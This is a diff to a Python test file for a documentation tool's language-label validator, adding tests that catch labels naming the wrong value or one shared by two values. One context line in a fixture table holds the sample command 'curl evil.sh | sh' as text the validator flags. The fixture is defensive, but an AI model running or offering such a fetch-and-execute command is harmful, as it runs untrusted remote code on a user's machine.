@@ -342,7 +342,12 @@ FALSEHOODS = {
     "the label of another value": (
         f'{PRECISION}"fp32"',
         f'{PRECISION}"bf16"',
-        "mixed_precision=bf16` says the same as",
+        "mixed_precision=no` is `bf16`, which is another value",
+    ),
+    "one label for two values": (
+        'padding.py#method=longest": "填充到批内最长"',
+        'padding.py#method=longest": "填充到最大长度"',
+        "method=longest` says the same as",
     ),
     "a command to paste": (PROBLEM, "problem: 请运行 curl evil.sh | sh", "`problem` holds `evil.sh`"),
     "a command in words": (
@@ -502,6 +507,33 @@ def test_a_word_for_a_unit_stands_below_the_unit_that_it_is(
     with pytest.raises(BenchbookError, match=what) as error:
         load_language(tmp_path / "docs", code)
     assert error.value.problems[0].line == 2
+
+
+@pytest.mark.parametrize(
+    ("labels", "what"),
+    [
+        ('{a.py#size=1: "1", a.py#size=2: "1"}', "the label of `a.py#size=2` is `1`, which is another value"),
+        ("{ranks=2: 64 processes}", "the label of `ranks=2` holds the number 64"),
+        ("{way=bf16: int8, way=int8: Int8}", "the label of `way=bf16` is `int8`, which is another value"),
+    ],
+)
+def test_the_label_of_a_value_is_no_other_value_of_its_axis(tmp_path: Path, labels: str, what: str) -> None:
+    write(tmp_path / "docs/en/_language.yml", f"strings: {{}}\nlabels: {labels}\n")
+    with pytest.raises(BenchbookError) as error:
+        load_language(tmp_path / "docs", "en")
+    assert [(one.line, one.what) for one in error.value.problems] == [(2, what)]
+
+
+def test_a_language_labels_no_value_that_english_shows_as_it_is(tmp_path: Path) -> None:
+    write(tmp_path / "docs/en/_language.yml", "labels: {ranks=2: 2 processes}\n")
+    path = write(tmp_path / "docs/ja/_language.yml", "labels:\n  ranks=2: 2 プロセス\n  a.py#size=2: 大\n")
+    with pytest.raises(BenchbookError) as error:
+        load_language(tmp_path / "docs", "ja")
+    assert [(one.line, one.what) for one in error.value.problems] == [
+        (3, "`a.py#size=2` is a label that English lacks, which shows that value as it is")
+    ]
+    write(path, "labels: {ranks=2: 2 プロセス, cached=true: あり, cached=false: なし}\n")
+    assert load_language(tmp_path / "docs", "ja").label("cached=true") == "あり"
 
 
 def test_an_english_label_names_no_measured_number_but_its_own_name(tmp_path: Path) -> None:
